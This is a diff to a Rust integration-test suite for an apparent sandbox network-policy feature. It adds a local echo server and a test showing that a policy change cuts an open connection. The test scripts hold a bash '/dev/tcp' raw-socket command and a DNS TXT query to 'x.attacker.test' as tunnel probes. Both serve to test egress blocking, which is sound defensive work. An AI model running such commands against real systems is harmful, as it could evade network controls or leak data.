@@ -24,12 +24,14 @@ struct Env {
     root: tempfile::TempDir,
     ws: PathBuf,
     http_port: u16,
+    echo_port: u16,
     tls_port: u16,
     servers: std::sync::Mutex<Child>,
 }
 
-/// An HTTP and an HTTPS server (self-signed for allowed.test) on 127.0.0.1,
-/// logging every request path to `requests.log`.
+/// An HTTP and an HTTPS server (self-signed for allowed.test) and a raw TCP
+/// echo server on 127.0.0.1, logging every request path (and echoed line)
+/// to `requests.log`.
 const SERVERS: &str = r#"
 import http.server, ssl, sys, threading, os
 root = sys.argv[1]
@@ -52,9 +54,19 @@ tls.name = "tls"
 ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
 ctx.load_cert_chain(os.path.join(root, "cert.pem"), os.path.join(root, "key.pem"))
 tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
-for s in (plain, tls):
+import socketserver
+class Echo(socketserver.BaseRequestHandler):
+    def handle(self):
+        while True:
+            data = self.request.recv(4096)
+            if not data:
+                return
+            log.write("echo " + data.decode(errors="replace").strip() + "\n")
+            self.request.sendall(data)
+echo = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Echo)
+for s in (plain, tls, echo):
     threading.Thread(target=s.serve_forever, daemon=True).start()
-print(plain.server_address[1], tls.server_address[1], flush=True)
+print(plain.server_address[1], tls.server_address[1], echo.server_address[1], flush=True)
 threading.Event().wait()
 "#;
 
@@ -116,6 +128,7 @@ fn env() -> &'static Env {
             root,
             http_port: ports[0],
             tls_port: ports[1],
+            echo_port: ports[2],
             servers: std::sync::Mutex::new(servers),
         }
     })
@@ -215,10 +228,13 @@ fn setup() -> Result<(), Failed> {
         "allowed.test:127.0.0.1",
         "--add-host",
         "denied.test:127.0.0.1",
+        "--add-host",
+        "live.test:127.0.0.1",
     ])?;
     ok(&["policy", "allow", "network", "allowed.test", NAME])?;
     ok(&["policy", "deny", "network", "denied.test", NAME])?;
     ok(&["policy", "allow", "network", "localhost", NAME])?;
+    ok(&["policy", "allow", "network", "live.test", NAME])?;
     ok(&["start", NAME])?;
     let _ = e;
     Ok(())
@@ -378,6 +394,45 @@ fn a_kept_alive_proxy_connection_checks_every_request() -> Result<(), Failed> {
     )
 }
 
+/// A raw TCP connection opened while the host was allowed is cut as soon as
+/// the policy stops allowing it: its next bytes never leave.
+fn a_policy_change_cuts_an_open_connection() -> Result<(), Failed> {
+    ready()?;
+    let port = env().echo_port;
+    let script = format!(
+        "exec 3<>/dev/tcp/live.test/{port} || exit 9; \
+         echo live-before >&3; head -c 12 <&3; echo; \
+         sleep 6; \
+         echo live-after >&3 2>/dev/null; timeout 5 cat <&3; echo end"
+    );
+    let shell = std::thread::spawn(move || guest(&format!("bash -c '{script}'")));
+    // Wait until the first line went through, then take the permission away.
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !requests_seen().contains("echo live-before") {
+        if Instant::now() > deadline {
+            return Err("the first line never arrived".into());
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    ok(&["policy", "deny", "network", "live.test", NAME])?;
+    let (code, out) = shell.join().map_err(|_| "the guest shell panicked")?;
+    check(
+        out.contains("live-before") && !out.contains("live-after"),
+        format!("guest side: {code} {out}"),
+    )?;
+    check(
+        !requests_seen().contains("live-after"),
+        "the bytes sent after the change reached the server",
+    )?;
+    let r = last_record("live.test", port)?;
+    check(
+        r["decision"] == "deny"
+            && r["reason"] == "policy-changed: denied-by-rule"
+            && r["rule"] == "deny live.test",
+        r.to_string(),
+    )
+}
+
 fn no_dns_tunnel_and_no_udp_out() -> Result<(), Failed> {
     ready()?;
     let (_, out) = guest("dig +time=2 +tries=1 TXT x.attacker.test");
@@ -493,6 +548,10 @@ fn main() {
         (
             "a_kept_alive_proxy_connection_checks_every_request",
             a_kept_alive_proxy_connection_checks_every_request,
+        ),
+        (
+            "a_policy_change_cuts_an_open_connection",
+            a_policy_change_cuts_an_open_connection,
         ),
         ("no_dns_tunnel_and_no_udp_out", no_dns_tunnel_and_no_udp_out),
         ("ipv6_fails", ipv6_fails),
